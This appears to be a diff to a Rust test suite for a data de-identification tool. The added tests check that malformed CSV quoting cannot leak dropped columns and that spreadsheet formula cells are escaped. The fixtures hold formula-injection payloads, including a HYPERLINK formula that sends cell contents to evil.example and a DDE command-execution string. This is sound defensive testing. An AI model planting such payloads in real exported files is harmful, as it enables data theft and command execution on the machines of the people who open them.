@@ -222,7 +222,9 @@ fn bad_input_names_row_and_column_and_writes_nothing() {
     let assert = release(&d, "k", &bad, &schema, &out)
         .assert()
         .failure()
-        .stderr(predicates::str::contains("row 2, column `dob`: not a date"));
+        .stderr(predicates::str::contains(
+            "row 2 (line 3), column `dob`: not a date",
+        ));
     let stderr = String::from_utf8_lossy(&assert.get_output().stderr).to_string();
     assert!(!stderr.contains("19461302"), "the value leaked: {stderr}");
     assert!(!out.exists());
@@ -416,7 +418,7 @@ fn k_anonymity_skips_the_same_bad_rows_in_both_passes() {
         .assert()
         .failure()
         .stderr(predicates::str::contains(
-            "row 201, column `age`: not a number",
+            "row 201 (line 202), column `age`: not a number",
         ));
     assert!(!d.root.join("failed.csv").exists());
 }
@@ -747,4 +749,237 @@ fn nested_parquet_columns_are_refused_by_name() {
     let output = release(&d, "k", &cut, &schema, &out).output().expect("run");
     crate::common::assert_clean_failure(&output, &["cut.parquet", "Parquet"]);
     assert!(!out.exists());
+}
+
+/// A register whose `name` column the schema drops, and whose date of birth and postcode
+/// are released only coarsened.
+const REGISTER_SCHEMA: &str = r#"
+[[column]]
+name = "id"
+role = "insensitive"
+
+[[column]]
+name = "name"
+role = "identifier"
+
+[[column]]
+name = "dob"
+role = "quasi"
+kind = "date"
+format = "%Y-%m-%d"
+precision = "year"
+
+[[column]]
+name = "postcode"
+role = "quasi"
+kind = "postcode"
+precision = "outward"
+
+[[column]]
+name = "status"
+role = "insensitive"
+"#;
+
+/// An attack on the CSV reader: a quote left open in a released column (or one closed on a
+/// later line with text after it) must not fold the rows after it into that column, where
+/// the dropped name and the exact date and postcode would be published as-is. By default
+/// the run fails naming the row and its line; with `--skip-bad-rows` the row is left out
+/// and counted, and nothing of it reaches the output.
+#[test]
+fn a_hostile_quote_never_publishes_a_dropped_column() {
+    let d = dir();
+    let schema = write(&d, "schema.toml", REGISTER_SCHEMA);
+    let header = "id,name,dob,postcode,status\n1,Ann Smith,1950-01-02,EC1V 3EE,active\n";
+    let secret =
+        "2,Margaret Ellison,1956-03-14,SW1A 1AB,active\n3,Bob Jones,1960-05-06,N8 7TA,ok\n";
+    let attacks = [
+        (
+            "unclosed",
+            format!("{header}9,Cy Doe,1970-01-01,N1 9GU,\"retired\n{secret}"),
+        ),
+        (
+            "reopened",
+            format!(
+                "{header}9,Cy Doe,1970-01-01,N1 9GU,\"retired\n{secret}4,Di Roe,1980-02-03,E1 6AN,\"x\"y\n"
+            ),
+        ),
+    ];
+    for (name, table) in attacks {
+        let input = write(&d, &format!("{name}.csv"), &table);
+        let out = d.root.join(format!("{name}.out.csv"));
+        let failed = release(&d, "k", &input, &schema, &out)
+            .output()
+            .expect("runs");
+        crate::common::assert_clean_failure(&failed, &[&format!("{name}.csv"), "row 2 (line 3)"]);
+        assert!(!out.exists(), "{name}: written despite the error");
+        let report = d.root.join(format!("{name}.report.json"));
+        release(&d, "k", &input, &schema, &out)
+            .arg("--skip-bad-rows")
+            .arg("--report")
+            .arg(&report)
+            .assert()
+            .success();
+        let released = std::fs::read_to_string(&out).expect("output");
+        for leaked in [
+            "Margaret",
+            "Ellison",
+            "1956-03-14",
+            "SW1A 1AB",
+            "Bob Jones",
+            "N8 7TA",
+        ] {
+            assert!(
+                !released.contains(leaked),
+                "{name}: `{leaked}` released: {released}"
+            );
+        }
+        let (header, rows) = read_csv(&out);
+        assert_eq!(header, ["id", "dob", "postcode", "status"]);
+        assert!(
+            rows.iter().all(|r| r.len() == 4 && !r[3].contains('\n')),
+            "{rows:?}"
+        );
+        let report: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
+        assert_eq!(
+            report["bad_rows"]["listed"][0]["row"], 2,
+            "{name}: {report}"
+        );
+        assert_eq!(
+            report["bad_rows"]["listed"][0]["line"], 3,
+            "{name}: {report}"
+        );
+        assert_eq!(report["rows_written"], rows.len(), "{name}: {report}");
+    }
+}
+
+/// An attack through the release: cells that a spreadsheet opening the CSV would run as
+/// formulas (a link that exfiltrates, a DDE command, a function, a formula after a tab).
+/// They are written with a leading `'` and counted in the report; plain negative and signed
+/// numbers stay numbers; `table.formula_escape = false` writes every cell as it is, and
+/// JSON Lines output keeps values exact.
+#[test]
+fn spreadsheet_formulas_in_released_cells_are_neutralized() {
+    let d = dir();
+    let schema = write(
+        &d,
+        "schema.toml",
+        "[[column]]\nname = 'id'\nrole = 'insensitive'\n\
+         [[column]]\nname = 'balance'\nrole = 'insensitive'\n\
+         [[column]]\nname = 'delta'\nrole = 'quasi'\nkind = 'number'\nround = 5\n\
+         [[column]]\nname = 'note'\nrole = 'sensitive'\n\
+         [[column]]\nname = 'city'\nrole = 'insensitive'\n",
+    );
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)",
+        "-2+3",
+    ];
+    let input = write(
+        &d,
+        "t.csv",
+        &format!(
+            "id,balance,delta,note,city\n\
+             1,-5,-12,\"{}\",Leeds\n\
+             2,+3.5,7,{},York\n\
+             3,-1e3,-3,{},\"\t=1+2\"\n\
+             4,-0.25,0,{},Hull\n",
+            formulas[0].replace('"', "\"\""),
+            formulas[1],
+            formulas[2],
+            formulas[3]
+        ),
+    );
+    let out = d.root.join("out.csv");
+    let report = d.root.join("report.json");
+    let run = |out: &Path| {
+        release(&d, "k", &input, &schema, out)
+            .arg("--report")
+            .arg(&report)
+            .assert()
+            .success();
+        let report: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
+        report["formula_cells_escaped"].clone()
+    };
+    assert_eq!(run(&out), 5);
+    let (_, rows) = read_csv(&out);
+    let column = |j: usize| rows.iter().map(|r| r[j].clone()).collect::<Vec<_>>();
+    assert_eq!(
+        column(3),
+        formulas.iter().map(|f| format!("'{f}")).collect::<Vec<_>>()
+    );
+    assert_eq!(column(4), ["Leeds", "York", "'\t=1+2", "Hull"]);
+    assert_eq!(column(1), ["-5", "+3.5", "-1e3", "-0.25"]);
+    assert_eq!(column(2), ["-10", "5", "-5", "0"]);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !declass::table::rows::is_formula(cell),
+                "a formula released: {cell:?}"
+            );
+        }
+    }
+    // JSON Lines output is data for programs: exact values, nothing escaped.
+    let jsonl = d.root.join("out.jsonl");
+    assert_eq!(run(&jsonl), 0);
+    let first: serde_json::Value = serde_json::from_str(
+        std::fs::read_to_string(&jsonl)
+            .expect("jsonl")
+            .lines()
+            .next()
+            .expect("a line"),
+    )
+    .expect("json");
+    assert_eq!(first["note"], formulas[0]);
+    // Turned off: every cell as it is.
+    std::fs::write(
+        d.root.join("config.toml"),
+        "[setup]\nauto = false\n[table]\nformula_escape = false\n",
+    )
+    .expect("config");
+    assert_eq!(run(&out), 0);
+    let (_, rows) = read_csv(&out);
+    assert_eq!(rows[0][3], formulas[0]);
+    assert_eq!(rows[2][4], "\t=1+2");
+}
+
+/// A bad `[table]` value is refused naming the configuration file and the key, and a table
+/// with a header but no rows is released with a warning saying so.
+#[test]
+fn bad_table_settings_name_their_file_and_an_empty_table_warns() {
+    let d = dir();
+    let schema = write(&d, "schema.toml", CUSTOMERS_SCHEMA);
+    let input = write(&d, "customers.csv", CUSTOMERS);
+    let out = d.root.join("out.csv");
+    let config = d.root.join("config.toml");
+    for setting in [
+        "suppression_limit = 2.0",
+        "pseudonym_hex_chars = 4",
+        "max_lattice_nodes = 0",
+    ] {
+        std::fs::write(
+            &config,
+            format!("[setup]\nauto = false\n[table]\n{setting}\n"),
+        )
+        .expect("config");
+        let failed = release(&d, "k", &input, &schema, &out)
+            .output()
+            .expect("runs");
+        let key = setting.split(' ').next().expect("key");
+        crate::common::assert_clean_failure(
+            &failed,
+            &[&config.display().to_string(), &format!("table.{key}")],
+        );
+    }
+    std::fs::write(&config, "[setup]\nauto = false\n").expect("config");
+    let header_only = write(&d, "header.csv", CUSTOMERS.lines().next().expect("header"));
+    let ran = release(&d, "k", &header_only, &schema, &out)
+        .output()
+        .expect("runs");
+    crate::common::assert_success(&ran);
+    let stderr = String::from_utf8_lossy(&ran.stderr);
+    assert!(stderr.contains("header.csv: no rows"), "{stderr}");
+    assert_eq!(read_csv(&out).1.len(), 0);
 }
